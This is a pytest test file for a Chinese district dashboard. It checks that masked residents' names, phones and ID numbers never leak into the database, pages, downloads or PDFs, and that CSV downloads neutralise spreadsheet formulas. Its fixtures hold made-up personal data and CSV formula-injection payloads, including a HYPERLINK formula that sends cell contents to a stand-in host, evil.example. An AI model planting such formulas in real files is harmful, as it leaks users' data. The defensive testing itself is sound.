"""Residents' personal data never leaves the loader (issue 6, item 5).

Extracts full of names, phone numbers and ID-card numbers, in their own columns, in columns the
contract does not know, and inside the free text, GBK and UTF-8, some rows rejected, are loaded
through the real loader. Then none of those strings may be found:
- in any table of the database (every column of every table, read as text), nor in the audit log,
  even when a shifted extract puts them in columns meant for something else (rejection reasons);
- in anything any page draws (AppTest, every page, as an analyst and as a street user: texts,
  metrics, tables, select options, chart specifications), the data desk and the accounts page
  included;
- in any download: the overdue list of 诉求办理, the weekly PDF of 周报, the audit CSV, the rejects
  CSV of every batch (etl.batches.rejects_csv, which the data desk offers);
- in the PDF of `python -m report` (pdftotext), district-wide and for a street.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
import streamlit
from streamlit.testing.v1 import AppTest

from access import audit
from access.accounts import add_user
from etl.batches import rejects_csv
from etl.db import read_only
from etl.load import load_files
from metrics import rollups

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")
FIXTURES = ROOT / "tests" / "fixtures"
PASSWORD = "a long enough password"
PERIOD = {"period": "自定义", "from": "2026-03-01", "to": "2026-03-14"}

NAMES = ["欧阳秀英", "司马建国", "诸葛丽娜", "上官云飞", "慕容雪梅", "皇甫志强"]
PHONES = ["13812345678", "139-0000-1111", "+86 150 2222 3333", "0535-5651234", "18655554444", "17766668888"]
IDS = ["370684199001011234", "11010119900307123X", "370602198512125678", "370684200512310018"]
# The written forms of issue 12, typed into the free text of one appeal (B4).
FORMS = ["0535 1234567", "(0535)1234567", "05351234567", "0535－1234567", "138.0013.8000", "138/0013/8000",
         "138—0013—8000", "１３８００１３８０００", "1380 0138 000", "tel13700137000", "370684 19900101 123X",
         "370684-19900101-123X", "３７０６８４１９９００１０１１２３Ｘ"]
# Phones typed into other text columns: 诉求类别, 社区, 问题类别, 测评项目, 场景名称, 组织单位.
ELSEWHERE = ["13922223333", "0535-6661234", "15866667777", "135-3333-4444", "188 9999 0000", "13611112222"]
# A phone written with separators must not be found as its bare digits either.
SECRETS = (NAMES + PHONES + IDS + FORMS + ELSEWHERE
           + ["15022223333", "13900001111", "05355651234", "05351234567", "13800138000", "13700137000",
              "37068419900101123X", "05356661234", "13533334444", "18899990000"])

APPEALS_HEADER = ("工单编号,来源渠道,诉求类别,受理时间,街道,小区编码,首次响应时间,办结时间,反馈时间,结案时间,群众评价,"
                  "来电人,联系电话,诉求内容,身份证号,家庭住址,社区")
# 社区 of each row: a phone, a formula and the caller's own name, another phone.
COMMUNITIES = ["东城社区 13922223333", "钟楼社区", "@SUM(A1)诸葛丽娜所在社区", "东城社区", "0535-6661234", ""]
# Stored before the loader refused control characters (the db fixture writes it in): it once broke
# the street's PDF.
STORED_CONTROL = "东城\x0b社区"
# What a visitor types as an account name, and what the open appeal B3 carries (category, 社区):
# every CSV download must hold them as text, never as a formula.
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
APPEALS_ROWS = [
    # In their own columns, and the caller's name, phone and ID inside the text.
    "B1,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,2026-03-02 10:00,2026-03-03 09:00,2026-03-04 09:00,,满意,"
    "欧阳秀英,13812345678,欧阳秀英反映楼道灯不亮，回电13812345678，身份证370684199001011234,370684199001011234,"
    "海景苑3号楼欧阳秀英家",
    "B2,城市通,物业管理13922223333,2026-03-03 12:00,蓬莱阁街道,C2,2026-03-03 13:00,,,,,"
    "司马建国,139-0000-1111,业主司马建国(身份证11010119900307123X)称电梯故障，联系139-0000-1111或0535-5651234,"
    "11010119900307123X,宝龙国际司马建国",
    # Still open after 48 h: it is on the overdue list and in its download.
    "B3,网格员巡访,=1+1,2026-03-04 10:00,紫荆山街道,C4,,,,,,诸葛丽娜,+86 150 2222 3333,"
    "诸葛丽娜：路灯坏了 电话+86 150 2222 3333 身份证号370602198512125678,370602198512125678,晒甲河诸葛丽娜",
    "B4,民意日记,噪音扰民,2026-03-05 20:00,登州街道,C1,2026-03-05 21:00,2026-03-06 08:00,,,不满意,"
    "上官云飞,18655554444,夜间噪音，请联系上官云飞18655554444；" + "；".join(FORMS) + ",370684200512310018,",
    # Rejected rows (an unknown channel; a time that cannot be read): their personal data is masked
    # in the rejects too.
    "B5,微信群,环境卫生,2026-03-04 10:00,登州街道,C1,,,,,,慕容雪梅,17766668888,"
    "慕容雪梅说垃圾没人清运 17766668888,370684199001011234,",
    "B6,12345热线,环境卫生,2026-13-45,登州街道,C1,,,,,,皇甫志强,18655554444,皇甫志强投诉 18655554444,,",
]
COMPLAINTS = """投诉编号,小区编码,问题类别,投诉时间,处置层级,三方办,解决时间,投诉人,投诉人电话,身份证号
Q1,C1,垃圾清运 15866667777,2026-03-02 09:00,小区,是,2026-03-04 09:00,欧阳秀英,13812345678,370684199001011234
Q2,C2,电梯维保,2026-03-03 10:00,社区,否,,司马建国,139-0000-1111,11010119900307123X
Q3,C9,设施维修,2026-03-05 08:00,小区,否,,慕容雪梅,17766668888,370602198512125678
"""
SCENES = """活动编号,活动日期,场景名称,场景类型,小区编码,参与人次,组织单位
S1,2026-03-03,邻里议事会 188 9999 0000,邻里,C1,20,东城社区党委 13611112222
S2,2026-03-04,健康讲座,健康,C2,=HYPERLINK("http://evil.example/?"&A1;"点此查看"),
"""
SURVEYS = """问卷编号,测评日期,小区编码,测评项目,评分,受访人,受访人电话
T1,2026-03-02,C1,物业服务 135-3333-4444,5,上官云飞,18655554444
T2,2026-03-04,C2,环境卫生,2,诸葛丽娜,15022223333
"""


@pytest.fixture(scope="module")
def extracts(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("pii-files")
    files = {
        "appeals": (folder / "诉求工单_gbk.csv", ("\r\n".join(
            [APPEALS_HEADER, *[f"{row},{community}" for row, community in zip(APPEALS_ROWS, COMMUNITIES)]])
            + "\r\n").encode("gb18030")),
        "scenes": (folder / "服务场景.csv", SCENES.encode("utf-8")),
        "complaints": (folder / "物业投诉_utf8.csv", COMPLAINTS.encode("utf-8")),
        "surveys": (folder / "满意度测评_bom.csv", ("\ufeff" + SURVEYS).encode("utf-8")),
    }
    for path, data in files.values():
        path.write_bytes(data)
    assert "欧阳秀英".encode("gb18030") in files["appeals"][1]  # really GBK on disk
    written = "".join(data.decode("gb18030" if kind == "appeals" else "utf-8-sig")
                      for kind, (_, data) in files.items())
    assert [s for s in NAMES + PHONES + IDS + FORMS + ELSEWHERE if s not in written] == []
    return {kind: path for kind, (path, _) in files.items()}


@pytest.fixture(scope="module")
def db(extracts, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("pii-db") / "pii.duckdb"
    order = [("compounds", FIXTURES / "compounds.csv"), ("appeals", extracts["appeals"]),
             ("complaints", extracts["complaints"]), ("surveys", extracts["surveys"]),
             ("scenes", FIXTURES / "scenes.xlsx"), ("scenes", extracts["scenes"])]
    for kind, file in order:
        (report,) = load_files(path, kind, [file])
        assert report.refused is None, report.refused
        if kind == "appeals":
            assert report.inserted == 4 and report.rejected == 2, report.summary_zh()
        if kind == "complaints":
            assert report.rejected == 1, report.summary_zh()
    with duckdb.connect(str(path)) as con:
        con.execute("UPDATE appeals SET community = ? WHERE appeal_id = 'B4'", [STORED_CONTROL])
        rollups.rebuild(con)  # written around the loader, which keeps the rollup
    return path


@pytest.fixture(scope="module")
def accounts(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("pii-accounts") / "accounts.toml"
    add_user("analyst", "analyst", PASSWORD, path=path)
    add_user("admin", "admin", PASSWORD, path=path)
    add_user("dengzhou", "street", PASSWORD, street="登州街道", path=path)
    return path


@pytest.fixture(autouse=True)
def environment(db, accounts, monkeypatch):
    monkeypatch.setenv("DASHBOARD_DB", str(db))
    monkeypatch.setenv("DASHBOARD_ACCOUNTS", str(accounts))


def leaks(text: str) -> list[str]:
    return [secret for secret in SECRETS if secret in text]


# ---------------------------------------------------------------- the database

def test_the_loads_kept_the_rows_but_no_personal_data(db):
    with read_only(db) as con:
        appeals = con.execute("SELECT appeal_id, content FROM appeals WHERE appeal_id LIKE 'B%' "
                              "ORDER BY appeal_id").fetchall()
    assert [a for a, _ in appeals] == ["B1", "B2", "B3", "B4"]
    b1 = appeals[0][1]
    assert "[姓名已隐去]" in b1 and "[电话已隐去]" in b1 and "[身份证号已隐去]" in b1 and "楼道灯不亮" in b1


def test_no_table_holds_any_of_it(db):
    with duckdb.connect(str(db), read_only=True) as con:
        columns = con.execute("SELECT table_name, column_name FROM information_schema.columns "
                              "WHERE table_schema = 'main' ORDER BY table_name, ordinal_position").fetchall()
        assert {t for t, _ in columns} >= {"appeals", "complaints", "surveys", "rejects", "batches"}
        found = []
        for table, column in columns:
            for secret in SECRETS:
                (count,) = con.execute(
                    f'SELECT count(*) FROM "{table}" WHERE CAST("{column}" AS VARCHAR) LIKE ?',
                    [f"%{secret}%"]).fetchall()[0]
                if count:
                    found.append((table, column, secret))
        (rejects,) = con.execute("SELECT count(*) FROM rejects").fetchall()[0]
    assert rejects >= 3  # the rejected rows are there, masked
    assert not found


def test_the_audit_log_holds_none_of_it(db):
    path = audit.audit_path(db)
    if path.exists():
        with sqlite3.connect(path) as con:
            rows = con.execute("SELECT * FROM audit").fetchall()
        assert not leaks(json.dumps(rows, ensure_ascii=False))


def test_the_rejects_downloads_hold_none_of_it(db):
    with read_only(db) as con:
        batches = [b for (b,) in con.execute("SELECT batch_id FROM batches ORDER BY batch_id").fetchall()]
        files = {batch: rejects_csv(con, batch).decode("utf-8-sig") for batch in batches}
    assert any("微信群" in text for text in files.values())  # the rejected appeal is in its batch's file
    assert any("[姓名已隐去]" in text for text in files.values())
    assert {batch: leaks(text) for batch, text in files.items() if leaks(text)} == {}


# ---------------------------------------------------------------- the pages

def rendered(at: AppTest) -> list[str]:
    """Every string the run drew, main area and sidebar: texts, metrics, tables, options, charts."""
    out = []
    for kind in ("title", "header", "subheader", "markdown", "caption", "text", "info", "warning", "error",
                 "success", "code", "latex", "exception"):
        out += [str(e.value) for e in at.get(kind)]
    for m in at.metric:
        out += [m.label, m.value, m.delta or ""]
    for d in at.dataframe:
        out.append(d.value.to_csv())
    for t in at.get("table"):
        out.append(t.value.to_csv())
    for widget in ("selectbox", "multiselect", "radio", "button_group", "text_input", "date_input"):
        for w in at.get(widget):
            out += [str(getattr(w, "label", "")), str(getattr(w, "value", "")),
                    json.dumps([str(o) for o in getattr(w, "options", [])], ensure_ascii=False)]
    for chart in at.get("plotly_chart"):
        out.append(chart.proto.spec)
    for chart in at.get("deck_gl_json_chart"):
        out.append(chart.proto.json)
    for element in at.get("json"):
        out.append(str(element.proto.body))
    return out


@pytest.fixture
def downloads(monkeypatch) -> list[tuple[str, bytes]]:
    offered: list[tuple[str, bytes]] = []
    original = streamlit.download_button

    def spy(label, data=None, *args, **kwargs):
        data = data() if callable(data) else data  # what Streamlit runs when the button is pressed
        offered.append((kwargs.get("file_name"), data if isinstance(data, bytes) else str(data).encode()))
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", spy)
    return offered


def texts_of(elements) -> list[str]:
    return [str(e.value) for e in elements]


def signed_in(name: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=120)
    at.query_params.update(PERIOD)
    at.run()
    at.text_input(key="sign_in_name").input(name)
    at.text_input(key="sign_in_password").input(PASSWORD)
    at.button(key="sign_in_submit").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def pdf_text(data: bytes, folder: Path, name: str = "report.pdf") -> str:
    path = folder / name
    path.write_bytes(data)
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


PAGES = ["overview", "appeals", "alerts", "property", "compounds", "satisfaction", "scenes", "weekly_report"]


@pytest.mark.parametrize(("user", "extra_pages"), [("analyst", ["data_desk"]), ("admin", ["data_desk", "admin"]),
                                                   ("dengzhou", [])])
def test_no_page_and_no_download_shows_any_of_it(user, extra_pages, downloads, tmp_path):
    if user == "admin":  # a visitor's attempt with a formula for a name, before the admin looks at the log
        visitor = AppTest.from_file(APP, default_timeout=120).run()
        visitor.text_input(key="sign_in_name").input(HOSTILE_NAME)
        visitor.text_input(key="sign_in_password").input("13812345678")
        visitor.button(key="sign_in_submit").click().run()
        assert texts_of(visitor.error) == ["账号或密码错误。"]
    at = signed_in(user)
    seen: dict[str, list[str]] = {}
    for page in PAGES + extra_pages:
        if page != "overview":
            at.switch_page(f"pages/{page}.py").run()
        assert not at.exception, (page, [e.value for e in at.exception])
        seen[page] = rendered(at)
        if page == "compounds":  # and every compound's profile
            for compound in list(at.selectbox(key="compound").options)[1:]:
                at.selectbox(key="compound").set_value(compound).run()
                assert not at.exception
                seen[f"compounds/{compound}"] = rendered(at)
        if page == "weekly_report":  # and every week the page offers
            for week in list(at.selectbox(key="report_week").options)[1:]:
                at.selectbox(key="report_week").set_value(week).run()
                seen[f"weekly_report/{week}"] = rendered(at)
    assert sum(len(texts) for texts in seen.values()) > 100
    # The overdue list shows the open appeal of 紫荆山街道 (not to 登州街道's leader)...
    assert any("B3" in text for text in seen["appeals"]) == (user != "dengzhou")
    assert {page: leaks("\n".join(texts)) for page, texts in seen.items() if leaks("\n".join(texts))} == {}

    names = [name for name, _ in downloads]
    assert any(name.endswith(".csv") and name.startswith("超期未办结工单") for name in names) or user == "dengzhou"
    assert any(name.endswith(".pdf") for name in names)
    for index, (name, data) in enumerate(downloads):
        text = pdf_text(data, tmp_path, f"{index}.pdf") if name.endswith(".pdf") else data.decode("utf-8-sig")
        assert text.strip(), name
        assert not leaks(text), (name, leaks(text))
        if name.endswith(".csv"):
            assert data.startswith("\ufeff".encode()), name
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            assert [c for c in cells if c.startswith(FORMULA_STARTS)] == [], name
    hostile = {"超期未办结工单": ["'=1+1", "'@SUM(A1)[姓名已隐去]所在社区"], "审计日志": ["'" + HOSTILE_NAME]}
    for prefix, cells in hostile.items():
        for name, data in downloads:
            if name.startswith(prefix) and user != "dengzhou":
                read = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
                assert all(cell in read for cell in cells), (name, cells)
    overdue = [data.decode("utf-8-sig") for name, data in downloads if name.startswith("超期未办结工单")]
    if user != "dengzhou":
        assert any("B3" in text for text in overdue)  # ...and so does its download, without the caller


# ---------------------------------------------------------------- the PDF of python -m report

@pytest.mark.parametrize("street", [None, "登州街道", "紫荆山街道"])
def test_the_weekly_pdf_holds_none_of_it(db, tmp_path, street):
    out = tmp_path / "report.pdf"
    command = [sys.executable, "-m", "report", "--db", str(db), "--week", "2026-W10", "--out", str(out)]
    if street:
        command += ["--street", street]
    result = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    text = pdf_text(out.read_bytes(), tmp_path)
    assert "周报" in text
    assert not leaks(text)


# ---------------------------------------------------------------- personal data in the wrong column

def test_personal_data_in_a_wrong_column_stays_out_of_the_reasons(tmp_path):
    """A shifted extract puts a phone in 受理时间, a name in 来源渠道, an ID in 群众评价: the rows
    are rejected, and neither the stored rows nor the reasons (which quote the bad value) nor the
    report may hold them."""
    db = tmp_path / "shifted.duckdb"
    (report,) = load_files(db, "compounds", [FIXTURES / "compounds.csv"])
    shifted = tmp_path / "shifted.csv"
    shifted.write_text(
        "工单编号,来源渠道,诉求类别,受理时间,街道,小区编码,群众评价,来电人,联系电话,诉求内容\n"
        "X1,12345热线,环境卫生,13812345678,登州街道,C1,,欧阳秀英,13812345678,内容\n"
        "X2,欧阳秀英,环境卫生,2026-03-02 09:00,登州街道,C1,,欧阳秀英,13812345678,内容\n"
        "X3,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,370684199001011234,欧阳秀英,13812345678,内容\n"
        # A key cannot be masked (two rows would become one): the row is rejected, its values masked.
        "138 1234 5678,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,,欧阳秀英,13812345678,内容\n"
        "X欧阳秀英,12345热线,环境卫生,2026-03-02 09:00,登州街道,C1,,欧阳秀英,13812345678,内容\n",
        encoding="utf-8")
    (report,) = load_files(db, "appeals", [shifted])
    assert report.rejected == 5
    assert [r["rows"] for r in report.reasons if r["reason"].startswith("“工单编号”含有电话号码")] == [2]
    with read_only(db) as con:
        stored = json.dumps(con.execute("SELECT reason, raw_values FROM rejects").fetchall(), ensure_ascii=False)
        csv_text = rejects_csv(con, report.batch_id).decode("utf-8-sig")
    assert not leaks(stored + csv_text + json.dumps(report.reasons, ensure_ascii=False))


# ---------------------------------------------------------------- no traceback, whatever the data

def test_a_page_that_fails_shows_a_chinese_sentence_and_no_traceback(monkeypatch, caplog):
    from dashboard import data
    from metrics import appeals

    real = data.get

    def broken(fn, *args):  # the overdue list's read fails; every other read works
        if fn is appeals.overdue:
            raise ValueError("a value no page expected")
        return real(fn, *args)

    monkeypatch.setattr(data, "get", broken)
    at = signed_in("analyst")
    at.switch_page("pages/appeals.py").run()
    assert not at.exception
    assert texts_of(at.error) == ["此页面暂时无法显示，已记录错误详情，请稍后重试或联系管理员。"]
    assert "a value no page expected" in caplog.text  # the details are in the server's log
